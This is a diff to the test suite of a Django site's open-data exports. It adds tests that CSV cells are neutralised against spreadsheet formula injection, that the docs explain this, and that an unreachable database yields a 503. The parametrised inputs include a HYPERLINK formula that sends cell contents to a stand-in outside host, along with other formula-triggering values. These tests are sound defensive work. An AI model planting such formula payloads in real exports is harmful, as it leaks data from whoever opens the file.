@@ -5,7 +5,7 @@ import math
 
 import frictionless
 import pytest
-from django.db import connection
+from django.db import OperationalError, connection
 from django.urls import reverse
 from django.utils import timezone
 
@@ -111,8 +111,8 @@ def test_large_export_is_streamed(client):
     chunks = list(response.streaming_content)
     rows = read_csv(b"".join(chunks).decode())
     assert len(rows) == Initiative.objects.published().count() >= 10_000
-    # The header, then CHUNK_ROWS rows at a time.
-    assert len(chunks) == 1 + math.ceil(len(rows) / exports.CHUNK_ROWS)
+    # CHUNK_ROWS rows at a time, the header with the first ones.
+    assert len(chunks) == math.ceil(len(rows) / exports.CHUNK_ROWS)
 
 
 @pytest.mark.parametrize("extra_rows", [0, 25])
@@ -274,3 +274,48 @@ def test_list_page_offers_the_csv_of_its_selection(client):
     response = client.get(reverse("initiatives:list"), {"department": "13"})
     assert "/donnees/initiatives.csv?department=13" in response.text
     assert "Télécharger (CSV)" in response.text
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("https://exemple.org/?"&A1,"Cliquez")',
+        "+33 1 23 45 67 89",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_never_run_as_spreadsheet_formulas(client, title):
+    initiative = InitiativeFactory(title=title, summary=title, published=True)
+    response = client.get(reverse("initiatives:data_initiatives_csv"))
+    text = b"".join(response.streaming_content).decode()
+    row = next(r for r in read_csv(text) if r["slug"] == initiative.slug)
+    assert row["title"] == "'" + title
+    assert row["summary"] == "'" + title
+    # JSON and the API give the text as it is.
+    response = client.get(reverse("initiatives:data_initiatives_json"))
+    data = json.loads(b"".join(response.streaming_content))
+    assert next(r for r in data if r["slug"] == initiative.slug)["title"] == title
+
+
+def test_the_schema_and_readme_say_how_formulas_are_neutralised(client):
+    schema = client.get(reverse("initiatives:data_initiatives_schema")).json()
+    readme = client.get(reverse("initiatives:data_readme")).content.decode()
+    for text in (schema["description"], readme):
+        assert "apostrophe" in text and "formule" in text
+
+
+def test_an_export_checks_the_database_before_its_first_byte(client, monkeypatch):
+    def unreachable(*args, **kwargs):
+        raise OperationalError("connection refused")
+        yield
+
+    monkeypatch.setattr(exports, "rows", unreachable)
+    client.raise_request_exception = False
+    for route in ("data_initiatives_csv", "data_initiatives_json"):
+        response = client.get(reverse(f"initiatives:{route}"))
+        assert response.status_code == 503
+        assert response["Retry-After"] == "30"
+        assert not response.streaming
